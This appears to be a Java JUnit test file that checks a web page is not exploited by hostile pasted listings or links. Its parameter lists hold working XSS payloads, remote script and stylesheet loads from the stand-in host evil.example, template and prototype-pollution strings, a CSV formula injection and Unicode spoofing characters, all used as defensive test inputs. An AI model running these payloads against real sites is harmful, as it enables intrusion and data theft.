package dev.assay.serve;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile listings never run anything in the page and never break it. */
class HostileListingsTest {

    private static final String INTRUDERS =
            "return [...document.querySelectorAll('script, style, iframe, object, embed, svg, math, base, meta, link, img, form, video, audio, a[href], [style]')]"
                    + ".filter((e) => !e.matches('head > *, h1 > img, .skip, #pill, #addfact form, form.stack, .fill, .sure, .range, .point')).map((e) => e.outerHTML)";

    private static Serving serving;
    private static Browser browser;

    @BeforeAll
    static void start() {
        serving = Serving.start();
        browser = new Browser(serving);
        browser.open();
    }

    @AfterAll
    static void stop() {
        browser.close();
        serving.close();
        assertThat(serving.faults).isEmpty();
    }

    @BeforeEach
    void forgetWhatWas() {
        browser.requests();
        browser.complaints();
    }

    @AfterEach
    void nothing_ran_and_nobody_was_asked() {
        assertThat(browser.<Object>js("return window.pwned")).isNull();
        assertThat(browser.<List<String>>js(INTRUDERS)).isEmpty();
        assertThat(browser.complaints()).isEmpty();
        assertThat(browser.requests())
                .allMatch(url -> url.startsWith("http://127.0.0.1:" + serving.server.port() + "/v1/"));
        // the page still works
        browser.example(1);
        assertThat(browser.text(".who .name")).isEqualTo("Invoice Desk");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>window.pwned = 1</script>",
                "</textarea></script><script src=//evil.example/x.js></script>",
                "<img src=x onerror='window.pwned = 1'>",
                "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'/></svg>",
                "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
                "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
                "<a href='javascript:window.pwned = 1'>data:text/html,<script>pwned=1</script></a>",
                "<math><mtext><table><mglyph><style><img src onerror=window.pwned=1></style></mglyph></table></mtext></math>",
                "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
                "{{constructor.constructor('window.pwned = 1')()}} ${window.pwned = 1}",
                "\u202Egnp.exe\u2066 \u200B\uFEFF\u0007 \u2028",
                "\"><input autofocus onfocus='window.pwned = 1'>"
            })
    void text_stays_text(String text) {
        String quoted = Serving.JSON.writeValueAsString(text);
        String name = Serving.JSON.writeValueAsString(text.replaceAll("\\p{C}", "") + "!");
        browser.paste("{\"id\": \"x\", \"name\": " + name + ", \"description\": " + quoted
                + ", \"capabilities\": [{\"id\": \"tool.shell\", "
                + "\"status\": \"present\", \"evidence\": [{\"quote\": " + quoted + ", \"at\": \"/description\"}]}]}");
        for (String where :
                List.of("[data-key=score]", "[data-key=factor-tool_use]", "[data-key=tab-marked]", "[data-key=case]")) {
            browser.js(
                    "document.querySelector(arguments[0])?.click(); document.querySelectorAll('main details').forEach((d) => { d.open = true })",
                    where);
        }
        assertThat(browser.<String>js("return document.getElementById('main').textContent"))
                .doesNotContain("\u202E", "\u2066", "\u200B", "\u2028");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>window.pwned = 1</script>",
                "# <img src=x onerror=window.pwned=1>\n\nRuns shell commands <svg onload=window.pwned=1> and [remembers](javascript:pwned=1) you across sessions.",
                "---\nname: <script>window.pwned=1</script>\ndescription: \"\\u202E<img src=x onerror=pwned=1> runs shell commands\"\n---\n<style>*{display:none}</style> Run `rm`.",
                "{\"<img src=x onerror=window.pwned=1>\": 1}",
                "{\"__proto__\": {\"pwned\": 1}, \"id\": \"constructor\", \"name\": \"__proto__\", \"present\": [\"__proto__\"]}",
                "{\"id\": \"__proto__\", \"name\": \"toString\", \"present\": [\"kind.agent\"]}",
                "name,description\n<script>window.pwned=1</script>,=cmd|' /C calc'!A0",
                "\u0000\u0001\u202E",
                "- &a [*a, *a]",
                "%!PS\n%PDF-1.7"
            })
    void whatever_is_pasted_has_an_answer(String text) {
        browser.paste(text);
        assertThat(browser.text("#problems") + browser.text("#score")).isNotBlank();
    }

    @Test
    void a_huge_listing_has_an_answer() {
        browser.paste("# Huge\n\n" + "It runs shell commands. <b>x</b> ".repeat(50_000));
        assertThat(browser.text("#problems") + browser.text("#score")).isNotBlank();
        browser.paste("x".repeat(3_000_000));
        assertThat(browser.text("#problems")).contains("larger than the server takes");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "l=%%%",
                "l=AAAA",
                "l=PHNjcmlwdD4",
                "l=",
                "token=",
                "l=q1YKSS0uUbJSUlSqBQA",
                "x=<script>window.pwned=1</script>"
            })
    void a_hostile_link_shows_an_empty_page(String fragment) {
        browser.open(fragment);
        assertThat(browser.text("#score")).contains("Nothing is assessed yet");
        browser.requests();
    }
}
